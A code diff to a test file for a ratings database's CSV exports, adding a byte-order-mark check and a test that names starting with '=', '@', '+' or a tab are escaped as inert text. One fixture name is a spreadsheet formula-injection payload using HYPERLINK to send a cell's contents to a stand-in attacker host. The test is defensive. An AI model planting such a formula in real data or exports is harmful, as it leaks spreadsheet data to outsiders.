@@ -1,11 +1,16 @@
 import { insertColumns, Player, RatingListEntry } from '@ratings/db';
 import {
   createTestDatabase,
+  makePlayer,
   makePool,
+  makeRatingChange,
   makeRatingList,
+  makeRatingListEntry,
+  makeTournament,
   publishRatingList,
   type TestDatabase,
 } from '@ratings/db/testing';
+import { UTF8_BOM } from './formats';
 import { exportPoolHistory, exportRatingList } from './list-export';
 
 async function collect(chunks: AsyncGenerator<string>): Promise<{ text: string; chunks: number }> {
@@ -62,7 +67,8 @@ describe('list exports, streamed from the database', () => {
     expect(file).toMatchObject({ fileName: 'standard-2026-11.csv', contentType: 'text/csv; charset=utf-8' });
     const { text, chunks } = await collect(file.chunks);
     expect(chunks).toBe(1 + 3); // header + three batches of at most 5,000
-    const lines = text.trimEnd().split('\r\n');
+    expect(text.startsWith(`${UTF8_BOM}rank,player_id,`)).toBe(true);
+    const lines = text.slice(UTF8_BOM.length).trimEnd().split('\r\n');
     expect(lines).toHaveLength(PLAYERS + 1);
     expect(lines[1]).toMatch(/^1,\d+,,,Joueur00000,"Anne, ""la Tour""",,,,,,2800,true,,0,30,,true$/);
     expect(lines[PLAYERS - 3].startsWith(`${PLAYERS - 3},`)).toBe(true);
@@ -92,11 +98,44 @@ describe('list exports, streamed from the database', () => {
 
   it('exports every player’s history, one row per player and list', async () => {
     const { text } = await collect(exportPoolHistory(db.dataSource, poolId, 'lists'));
-    const lines = text.trimEnd().split('\r\n');
+    expect(text.startsWith(UTF8_BOM)).toBe(true);
+    const lines = text.slice(UTF8_BOM.length).trimEnd().split('\r\n');
     expect(lines[0]).toBe(
       'player_id,national_id,surname,given_name,period,effective_date,revision,rating,provisional,rank,category,games_period,games_total,k',
     );
     expect(lines).toHaveLength(PLAYERS + 1); // one published list
     expect(lines[1]).toMatch(/^\d+,,Joueur00000,"Anne, ""la Tour""",2026-11,2026-11-01,0,2800,true,1,,0,30,$/);
+  });
+
+  it('writes names that look like formulas as inert text, and negative numbers as numbers', async () => {
+    const pool = await makePool(db.dataSource, { code: 'blitz', ratingSystemId: 'fqe' });
+    const player = await makePlayer(db.dataSource, {
+      surname: '=HYPERLINK("http://evil.example/?"&A1,"Tremblay")',
+      givenName: '@SUM(A1:A9)',
+      club: '+CE Montréal',
+      nationalId: '-12',
+    });
+    const list = await makeRatingList(db.dataSource, { poolId: pool.id, period: '2026-11', ratingSystemId: 'fqe' });
+    await makeRatingListEntry(db.dataSource, { listId: list.id, playerId: player.id, rating: 1500, rank: 1 });
+    const tournament = await makeTournament(db.dataSource, { poolId: pool.id, name: '\tOpen -2' });
+    await makeRatingChange(db.dataSource, {
+      listId: list.id,
+      playerId: player.id,
+      tournamentId: tournament.id,
+      ratingBefore: 1512,
+      ratingAfter: 1500,
+      change: -12,
+    });
+    const published = await publishRatingList(db.dataSource, list.id);
+
+    const listCsv = (await collect((await exportRatingList(db.dataSource, published.id, 'csv')).chunks)).text;
+    expect(listCsv.split('\r\n')[1]).toBe(
+      `1,${player.id},'-12,,"'=HYPERLINK(""http://evil.example/?""&A1,""Tremblay"")",'@SUM(A1:A9),CAN,M,,,'+CE Montréal,1500,false,,0,0,,true`,
+    );
+    const changes = (await collect(exportPoolHistory(db.dataSource, pool.id, 'tournaments'))).text.split('\r\n');
+    expect(changes[1]).toBe(
+      `${player.id},'-12,"'=HYPERLINK(""http://evil.example/?""&A1,""Tremblay"")",'@SUM(A1:A9),2026-11,2026-11-01,` +
+        `${tournament.id},'\tOpen -2,${tournament.endDate},1512,1500,0,0,0,,0,,-12`,
+    );
   });
 });
